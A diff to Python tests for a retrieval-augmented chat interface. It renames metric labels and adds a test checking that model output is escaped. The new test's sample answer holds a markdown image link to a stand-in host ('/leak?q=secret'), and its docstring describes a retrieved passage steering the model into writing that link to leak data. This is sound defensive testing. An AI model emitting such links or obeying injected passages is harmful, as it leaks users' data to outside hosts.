@@ -103,7 +103,7 @@ def test_sample_question_gets_a_cited_answer(ui_env):
     assert "How this answer was found" in labels
     # the passage text of the citation is shown (escaped) inside its expander
     assert any(answer.citations[0].text[:40] in plain(m.value) for m in assistant.expander[0].markdown)
-    assert any(m.label == "Time to first token" for m in assistant.get("metric"))
+    assert any(m.label == "First token" for m in assistant.get("metric"))
     # history survives a rerun and a new chat clears it
     at.run()
     assert [cm.name for cm in at.chat_message] == ["user", "assistant"]
@@ -232,7 +232,8 @@ def test_trace_shows_each_step_with_hits_and_timings(ui_env):
     trace = next(e for e in assistant.expander if e.label == "How this answer was found")
     steps = [plain(m.value).split(" · ")[0] for m in trace.markdown if m.value.startswith("**")]
     assert steps == ["**1. dense**", "**2. bm25**", "**3. fuse**", "**4. generate**"]
-    assert {m.label for m in trace.get("metric")} >= {"Time to first token", "Total time", "Cached prompt tokens"}
+    assert {m.label for m in trace.get("metric")} == {"First token", "Total", "Prompt tokens", "Cached"}
+    assert any(plain(c.value).startswith("prompt tokens: ") for c in trace.caption)
     first = trace.dataframe[0].value
     assert list(first.columns[:3]) == ["rank", "score", "document"] and first["document"][0] == "notes.md"
 
@@ -259,3 +260,26 @@ def test_passage_text_is_escaped_not_rendered(ui_env):
     shown = [cm for cm in at.chat_message if cm.name == "assistant"][-1].expander[0].markdown[0].value
     assert "\\<script\\>" in shown and "\\*\\*bold\\*\\*" in shown and "\\[link\\]" in shown
     assert not at.get("html")
+
+
+def test_model_output_markup_is_escaped(ui_env, monkeypatch):
+    """A passage can steer the model into writing an image link that would leak data: show it as text."""
+    from rag.types import Answer
+
+    evil = "See ![x](http://203.0.113.1/leak?q=secret) <b>now</b> [1]"
+
+    def fake_stream(self, question, history=None, **kwargs):
+        yield evil
+        yield Answer(question, evil, ())
+
+    at = start()
+    upload(at, [("notes.md", GOOD_MD, "text/markdown")])
+    monkeypatch.setattr(RAG, "stream", fake_stream)
+    at.chat_input(key="question").set_value("What is the launch code?").run()
+    assert not at.exception, [e.value for e in at.exception]
+    shown = [m.value for m in [cm for cm in at.chat_message if cm.name == "assistant"][-1].markdown]
+    assert any("\\!\\[x\\]\\(http" in v for v in shown), shown
+    assert not any("![x](http" in v for v in shown)
+    at.run()  # the rerun draws history through show_answer: escaped there too
+    shown = [m.value for m in [cm for cm in at.chat_message if cm.name == "assistant"][-1].markdown]
+    assert not any("![x](http" in v for v in shown)
